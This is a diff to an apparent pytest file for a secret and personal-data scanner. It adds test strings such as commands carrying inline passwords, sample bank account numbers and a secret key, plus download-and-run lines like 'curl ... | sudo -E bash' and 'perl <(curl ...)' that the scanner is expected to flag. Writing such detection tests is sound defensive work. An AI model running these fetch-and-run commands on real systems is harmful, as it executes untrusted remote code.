@@ -30,6 +30,7 @@ TOKENS = [
     f"https://bot.acme.dev/v2/hook/{UUID}", f"https://api.acme.dev/x?token={UUID}", "$2b" + "$12$EixZaYVK1fsbw1ZfbX3OXePaWxn96p36WQoeG6Lruj3vjPGga31lW",
 ]  # fmt: skip
 COMMANDS = [
+    f"echo '{RANDOM}' | passwd --stdin deploy", f"echo {RANDOM} | kinit ci", f"sudo -S ls <<< '{RANDOM}'",
     f"unzip -P {RANDOM} a.zip", f"ldapsearch -D cn=x -w {RANDOM} -b dc=x", f"mysql -u app -p{RANDOM} shop", f"curl -u ci:{RANDOM} https://x.acme.dev", f"sshpass -p {RANDOM} ssh x",
     f"tool --password {RANDOM}", f"keytool -list -storepass {RANDOM}", f"snmpget -v2c -c {RANDOM} host", f"acmectl login -u ci -p {RANDOM}", f"openssl enc -k {RANDOM} -in a",
     f"psexec acme/ci:{RANDOM}@box", f"app:{RANDOM}@tcp(db:3306)/x", f"gpg --passphrase {RANDOM} -d a", f"cryptsetup open /dev/sda x <<< {RANDOM}",
@@ -65,7 +66,7 @@ MAILS = [
 OTHERS = [
     ("Số TK: 19034567820153", "personal-bank-account"), ("Bank acc: 4738291645", "personal-bank-account"), ("みずほ 012 4738291", "personal-bank-account"), ("GB29-NWBK-6016-1331-9268-19", "personal-bank-account"),
     ("Lan sinh 12-4-1988", "personal-birth-date"), ("Lan (b. 12 Apr 1988)", "personal-birth-date"), ("昭和六十三年四月十二日生", "personal-birth-date"), ("D.O.B. 12/04/1988", "personal-birth-date"),
-    ("căn  cước công dân 048389 747479", "personal-id"),
+    ("căn  cước công dân 048389 747479", "personal-id"), ("普通預金 4829136", "personal-bank-account"), ("the key is kQ2mZ9wB4nT8cR1pLxY7vN3dHq", "secret-value"),
 ]  # fmt: skip
 
 
@@ -157,7 +158,7 @@ def test_commands_that_carry_data_out_are_told(text: str) -> None:
     assert "sending-command" in names(scan(text))
 
 
-@pytest.mark.parametrize("text", ["curl https://x.acme.dev/i | sudo -E bash", "curl https://x.acme.dev/i | tee a | sh", "curl https://x.acme.dev/i | env bash", "curl https://x.acme.dev/i | /bin/sh", "curl https://x.acme.dev/i |\\\n  sh", "mshta https://x.acme.dev/i.hta"])  # fmt: skip
+@pytest.mark.parametrize("text", ["curl https://x.acme.dev/i | sudo -E bash", 'python3 -c "$(curl -s https://x.acme.dev/i.py)"', "perl <(curl https://x.acme.dev/i)", "curl https://x.acme.dev/i | tee a | sh", "curl https://x.acme.dev/i | env bash", "curl https://x.acme.dev/i | /bin/sh", "curl https://x.acme.dev/i |\\\n  sh", "mshta https://x.acme.dev/i.hta"])  # fmt: skip
 def test_downloads_that_run_are_told(text: str) -> None:
     assert "piped-shell" in names(scan(text))
 
